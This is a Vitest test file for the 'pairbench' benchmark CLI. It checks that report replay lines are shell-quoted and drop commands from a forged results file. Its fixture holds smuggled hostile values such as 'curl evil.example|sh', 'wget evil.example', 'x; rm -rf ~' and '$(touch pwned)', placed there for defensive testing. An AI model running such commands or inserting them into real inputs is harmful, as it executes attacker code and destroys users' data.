/**
 * The replay and re-judge lines of the report: the real settings under their user-facing names,
 * shell-quoted, and never a command taken from a results file that may have been forged (S2, S6).
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../src/report/markdown.ts';
import { commandsOf, replayLines } from '../../src/report/replay.ts';
import { pairbench, resultsOf } from '../support/cli.ts';
import { bench, results } from './markdown-fixtures.ts';
import { tempDir } from '../support/repo.ts';

/** A results file as an untrusted workflow could write it: commands and settings chosen by an attacker. */
function forged() {
  return results([bench('parse', 'regression', 0.1, { n: 14 })], {
    settings: {
      seed: 7,
      alpha: 0.05,
      threshold: -5,
      maxTimeMs: 'x; rm -rf ~',
      build: 'curl evil.example|sh',
      minPairs: '$(touch pwned)',
      outliers: 'tukey; curl evil.example|sh',
      cpus: '1; curl evil.example|sh',
      benchmarks: [{ name: 'parse', run: 'curl evil.example|sh', prepare: 'wget evil.example', format: 'time', metrics: ['wall'] }],
    },
  });
}

describe('S2: a forged results file never reaches the replay line as commands', () => {
  it('the report of an untrusted results file prints no build, run or prepare, and no setting outside the schema', () => {
    const md = renderMarkdown(forged());
    expect(md).not.toContain('evil.example');
    expect(md).not.toContain('rm -rf');
    expect(md).not.toContain('pwned');
    expect(md).not.toContain('-500%');
    // what does pass the schema is kept, under its user-facing name
    expect(md).toContain('pairbench compare --base aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa --head bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb --seed 7\n');
  });

  it('pairbench report on a forged file writes a Markdown report without its commands', () => {
    const dir = tempDir('pairbench-replay-');
    const file = join(dir, 'forged.json');
    writeFileSync(file, JSON.stringify(forged()));
    const res = pairbench(['report', file, '--markdown', join(dir, 'report.md'), '--fail-on', 'none']);
    expect(res.status, res.stderr).toBe(0);
    const md = readFileSync(join(dir, 'report.md'), 'utf8');
    expect(md).not.toContain('evil.example');
    expect(md).not.toContain('pwned');
    expect(md).toContain(`pairbench report ${file}\n`);
  });
});

describe('replayLines: the real settings under their flag names', () => {
  const r = results([bench('parse', 'regression', 0.1)], {
    settings: { seed: 42, alpha: 0.01, threshold: 0.05, outliers: 'none', maxTimeMs: 240_000, timeoutMs: 600_000, minPairs: 10, maxPairs: 300, benchmarks: [] },
  });

  it('prints user-facing flags, leaves defaults out, and re-judges with the recorded threshold and alpha', () => {
    const lines = replayLines(r, { resultsFiles: ['out/my results.json'] });
    expect(lines.replay).toBe(`pairbench compare --base ${'a'.repeat(40)} --head ${'b'.repeat(40)} --seed 42 --threshold 5% --alpha 0.01 --outliers none --max-pairs 300 --max-time 4m`);
    expect(lines.replay).not.toMatch(/maxTimeMs|timeoutMs|npx/);
    expect(lines.rejudge).toBe("pairbench report 'out/my results.json' --threshold 5% --alpha 0.01 --outliers none");
  });

  it('replays the CPUs the runs were bound to (--cpus), after the other settings', () => {
    const bound = results([bench('parse', 'regression', 0.1)], { settings: { seed: 5, cpus: '1', benchmarks: [] } });
    expect(replayLines(bound).replay).toBe(`pairbench compare --base ${'a'.repeat(40)} --head ${'b'.repeat(40)} --seed 5 --cpus 1`);
    const list = results([bench('parse', 'regression', 0.1)], { settings: { seed: 5, cpus: '2-3,6', benchmarks: [] } });
    expect(replayLines(list).replay).toContain(' --cpus 2-3,6');
  });

  it('replays two directories with --base-dir and --head-dir, quoted', () => {
    const dirs = results([bench('parse', 'regression', 0.1)], { base: { dir: 'old build' }, head: { dir: '/tmp/new' }, settings: { seed: 3 } });
    expect(replayLines(dirs).replay).toBe("pairbench compare --base-dir 'old build' --head-dir /tmp/new --seed 3");
  });

  it("takes commands only from the live run, shell-quoted, and names the run's config file", () => {
    const one = replayLines(r, { commands: commandsOf({ build: "make CFLAGS='-O2'", benchmarks: [{ name: 'parse', run: './bin/parse big.json', format: 'time', metrics: ['cpu'], prepare: null }] }) });
    expect(one.replay).toContain(`--build 'make CFLAGS='\\''-O2'\\''' --run './bin/parse big.json' --name parse --metric cpu`);
    expect(one.replayNote).toBeNull();
    const config = replayLines(r, { commands: commandsOf({ build: 'make', benchmarks: [] }, 'bench/perf config.yml') });
    expect(config.replay).toContain("--config 'bench/perf config.yml'");
    expect(config.replay).not.toContain('--build');
  });

  it('gives again how the benchmark was measured when not the default: --shell none, the direction, the interleaving, the batch, the iterations, the design', () => {
    const bench1 = { name: 'suite', run: 'go test -bench .', format: 'go', metrics: ['wall'], prepare: null };
    const plain = replayLines(r, { commands: commandsOf({ build: null, benchmarks: [bench1] }) });
    for (const flag of ['--shell', '--direction', '--interleave', '--batch', '--iterations', '--design']) expect(plain.replay).not.toContain(flag);
    const shaped = replayLines(r, { commands: commandsOf({ build: null, benchmarks: [{ ...bench1, shell: 'none', interleave: 'suite', batch: 4, iterations: 'harness', design: 'command' }] }) });
    expect(shaped.replay).toContain("--run 'go test -bench .' --name suite --format go --shell none --interleave suite --batch 4 --iterations harness --design command");
    const json = replayLines(r, { commands: commandsOf({ build: null, benchmarks: [{ name: 'x', run: './x', format: 'json', metrics: ['wall'], prepare: null, direction: 'higher-is-better', shell: 'sh' }] }) });
    expect(json.replay).toContain('--format json --direction higher-is-better');
    expect(json.replay).not.toContain('--shell');
  });
});

describe('S2: pairbench report judges a forged file with valid settings only', () => {
  it('a recorded threshold outside the schema is not used: the default applies, with a warning', () => {
    const dir = tempDir('pairbench-forged-');
    const file = join(dir, 'forged.json');
    writeFileSync(file, JSON.stringify(results([bench('parse', 'unchanged', 0.001, { n: 14 })], { settings: { seed: 7, alpha: 0.05, threshold: -5 } })));
    const res = pairbench(['report', file, '--json']);
    expect(res.status, res.stderr).toBe(0);
    expect(res.stderr).toContain('warning: the threshold recorded in the results (-5) is not valid (a percentage such as 2% or a fraction such as 0.02, greater than 0 and at most 1000%); judging with 2%');
    const judged = resultsOf(res.stdout) as { benchmarks: { verdict: string; threshold: number }[] };
    expect(judged.benchmarks[0]!.verdict).toBe('unchanged');
  });
});
